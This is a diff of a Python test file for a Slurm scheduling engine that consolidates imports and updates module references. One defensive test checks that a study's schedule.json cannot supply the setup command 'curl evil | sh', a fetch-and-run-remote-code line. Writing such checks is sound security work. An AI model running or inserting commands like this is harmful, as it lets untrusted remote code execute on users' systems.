@@ -23,13 +23,10 @@ from engine.runs.store import Run, RunStore
 from engine.study.plan.plan import StudyPlan
 from engine.study.plan.snapshot import Watcher
 from engine.study.schedule import slurm as slurm_executor
-from engine.study.schedule import slurm_options
 from engine.study.schedule.job import Schedule
 from engine.study.schedule.loop import Look, StudyJob
-from engine.study.schedule.slurm import Slurm
-from engine.study.schedule.slurm_options import Options
-from engine.study.schedule.slurm_queue import NoAnswer, Queue, ask
-from engine.study.schedule.slurm_task import TOO_SHORT
+from engine.study.schedule.slurm import Options, Slurm
+from engine.study.schedule.slurm_queue import TOO_SHORT, NoAnswer, Queue, ask
 from engine.worker import work
 
 META = {"epochs": 1000, "checkpoint_every": 5.0}  # long enough to be disturbed on a fast machine
@@ -142,7 +139,7 @@ def resumed(run: RunReader) -> int:
 
 def test_a_run_that_gets_no_further_within_its_time_fails(tmp_path):
     run = RunReader(Run.create(tmp_path, three().grid()[0].preset).path)
-    code = f"from engine.study.schedule.slurm_task import compute; print(compute({str(run.path)!r}, 'cpu', None, 1))"
+    code = f"from engine.study.schedule.slurm_queue import compute; print(compute({str(run.path)!r}, 'cpu', None, 1))"
     child = subprocess.Popen([sys.executable, "-c", code], env=spawn.environment())
     try:
         eventually(lambda: run.recorded_status().state == "running")  # torch is yet to be imported
@@ -227,15 +224,15 @@ def test_shell_comes_from_the_environment_never_from_a_studys_folder(monkeypatch
     """Whoever resumes a study of a stranger's must not run the stranger's commands."""
     with pytest.raises(SettingsError, match="setup"):
         Options.of({"setup": ["curl evil | sh"]})  # as a schedule.json may have it
-    monkeypatch.setenv(slurm_options.SETUP, "module load cuda\nexport A=1")
-    assert slurm_options.setup_lines() == ["module load cuda", "export A=1"]
-    monkeypatch.setenv(slurm_options.SETUP, "  #SBATCH --partition=all")
+    monkeypatch.setenv(slurm_executor.SETUP, "module load cuda\nexport A=1")
+    assert slurm_executor.setup_lines() == ["module load cuda", "export A=1"]
+    monkeypatch.setenv(slurm_executor.SETUP, "  #SBATCH --partition=all")
     with pytest.raises(SettingsError, match="--slurm-setup"):
-        slurm_options.setup_lines()
+        slurm_executor.setup_lines()
 
 
 def test_where_slurm_is_not_nothing_is_made(monkeypatch, tmp_path):
     pytest.importorskip("submitit")
     monkeypatch.setenv("PATH", str(tmp_path))
     with pytest.raises(LregError, match="no sbatch, squeue, scancel, scontrol, srun on this machine"):
-        slurm_options.check_there()
+        slurm_executor.check_there()
